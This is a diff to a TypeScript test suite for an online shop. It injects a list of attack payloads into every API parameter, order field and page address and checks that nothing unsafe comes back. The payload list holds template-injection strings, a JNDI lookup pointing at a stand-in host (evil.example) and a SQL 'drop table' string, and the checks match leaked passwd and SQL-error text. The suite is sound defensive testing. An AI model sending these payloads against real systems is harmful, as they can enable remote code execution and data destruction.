@@ -5,6 +5,7 @@ import type { ZodMiniObject } from 'zod/mini';
 import { PAGES } from '../../apps/shop/src/routes.ts';
 import { callsOf } from '../../apps/shop/src/server.ts';
 import { ANNA, makeProduct } from '../support/make.ts';
+import { runsInPage } from '../support/runs-in-page.ts';
 import {
   type Answer,
   newKey,
@@ -41,10 +42,12 @@ const PAYLOADS: readonly string[] = [
   '\u2028x: y',
   // Templates
   '{{7*7}}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the payload
   '${7*7}',
   '<%= 7*7 %>',
   '#{7*7}',
   '{{constructor.constructor("return 1")()}}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the payload
   '${jndi:ldap://evil.example/a}',
   '%s%s%s%n',
   // Paths
@@ -118,13 +121,15 @@ function expectHarmless(answer: Answer, payload: string): void {
   expect(JSON.stringify(answer.headers)).not.toContain(MARK);
   expect(answer.text).not.toMatch(/root:x:0|\[fonts\]|syntax error at or near/);
   if (/html/.test(String(answer.headers['content-type']))) {
-    const markup = answer.text.replace(/<script type="application\/(ld\+)?json"[^>]*>[^<]*<\/script>/g, '');
-    expect(markup, about).not.toMatch(
-      /<(script|img|svg)[^>]*k9x7q|<script>|onerror=k9x7q|<!--k9x7q|onmouseover='k9x7q/,
-    );
-    expect(markup, about).not.toMatch(/href="javascript:/);
+    const ours = /^script \/assets\/|^<!-- ?-->$|^noscript$/;
+    expect(
+      runsInPage(answer.text).filter((one) => !ours.test(one)),
+      about,
+    ).toEqual([]);
   }
 }
+
+const LONG = 90_000;
 
 describe('every parameter of every call', () => {
   test('T25 in the path', async () => {
@@ -183,30 +188,34 @@ describe('every parameter of every call', () => {
 });
 
 describe('every field of an order', () => {
-  test('T25 is stored as the text that it is, in one line, or refused', async () => {
-    const body = await orderFor(shop, [{ productId: bike.id, quantity: 1 }]);
-    const roomy = { ...bike, variants: bike.variants.map((variant) => ({ ...variant, onHand: 2_000 })) };
-    await shop.sell(roomy);
-    for (const payload of PAYLOADS) {
-      const bodies = [
-        ...Object.keys(ANNA).map((field) => ({ ...body, customer: { ...ANNA, [field]: payload } })),
-        { ...body, payment: { method: 'active-finance', employerCode: payload } },
-        { ...body, payment: { method: 'active-finance', personalNumber: payload } },
-      ];
-      const answers = await Promise.all(bodies.map((one) => order(shop, one)));
-      for (const answer of answers) {
-        expectHarmless(answer, payload);
-        expect([201, 400, 422]).toContain(answer.status);
+  test(
+    'T25 is stored as the text that it is, in one line, or refused',
+    async () => {
+      const body = await orderFor(shop, [{ productId: bike.id, quantity: 1 }]);
+      const roomy = { ...bike, variants: bike.variants.map((variant) => ({ ...variant, onHand: 2_000 })) };
+      await shop.sell(roomy);
+      for (const payload of PAYLOADS) {
+        const bodies = [
+          ...Object.keys(ANNA).map((field) => ({ ...body, customer: { ...ANNA, [field]: payload } })),
+          { ...body, payment: { method: 'active-finance', employerCode: payload } },
+          { ...body, payment: { method: 'active-finance', personalNumber: payload } },
+        ];
+        const answers = await Promise.all(bodies.map((one) => order(shop, one)));
+        for (const answer of answers) {
+          expectHarmless(answer, payload);
+          expect([201, 400, 422]).toContain(answer.status);
+        }
       }
-    }
-    const { rows } = await shop.app.db.pool.query(
-      'select first_name, last_name, email, phone, address, city, state_region, zip_code from orders',
-    );
-    expect(rows.length).toBeGreaterThan(20);
-    const texts = rows.flatMap((row: Record<string, string>) => Object.values(row));
-    expect(texts.filter((text) => /\p{Cc}/u.test(text))).toEqual([]);
-    expect(texts).toContain("'; drop table orders; --");
-  });
+      const { rows } = await shop.app.db.pool.query(
+        'select first_name, last_name, email, phone, address, city, state_region, zip_code from orders',
+      );
+      expect(rows.length).toBeGreaterThan(20);
+      const texts = rows.flatMap((row: Record<string, string>) => Object.values(row));
+      expect(texts.filter((text) => /\p{Cc}/u.test(text))).toEqual([]);
+      expect(texts).toContain("'; drop table orders; --");
+    },
+    LONG,
+  );
 
   test('T25 a payload as key of an order is refused', async () => {
     const body = await orderFor(shop, [{ productId: bike.id, quantity: 1 }]);
@@ -222,20 +231,24 @@ describe('every field of an order', () => {
 });
 
 describe('every page', () => {
-  test('T25 in the path and in the query', async () => {
-    const addresses = PAGES.flatMap(({ path }) => (path === '*' ? ['/:nowhere'] : [path]));
-    for (const payload of PAYLOADS) {
-      const value = encoded(payload).slice(0, 1_200);
-      const query = ['category', 'tag', 'pickCategory', 'tier', 'step', 'q', 'lang'].map(
-        (name) => `${name}=${value}`,
-      );
-      const asked = addresses.map((address) =>
-        address.includes(':') ? address.replace(/:\w+/, value) : `${address}?${query.join('&')}`,
-      );
-      const answers = await Promise.all(asked.map((address) => shop.ask(address)));
-      for (const answer of answers) expectHarmless(answer, payload);
-    }
-  });
+  test(
+    'T25 in the path and in the query',
+    async () => {
+      const addresses = PAGES.flatMap(({ path }) => (path === '*' ? ['/:nowhere'] : [path]));
+      for (const payload of PAYLOADS) {
+        const value = encoded(payload).slice(0, 1_200);
+        const query = ['category', 'tag', 'pickCategory', 'tier', 'step', 'q', 'lang'].map(
+          (name) => `${name}=${value}`,
+        );
+        const asked = addresses.map((address) =>
+          address.includes(':') ? address.replace(/:\w+/, value) : `${address}?${query.join('&')}`,
+        );
+        const answers = await Promise.all(asked.map((address) => shop.ask(address)));
+        for (const answer of answers) expectHarmless(answer, payload);
+      }
+    },
+    LONG,
+  );
 
   test('T25 a drawing with a name of any kind', async () => {
     for (const payload of PAYLOADS) {
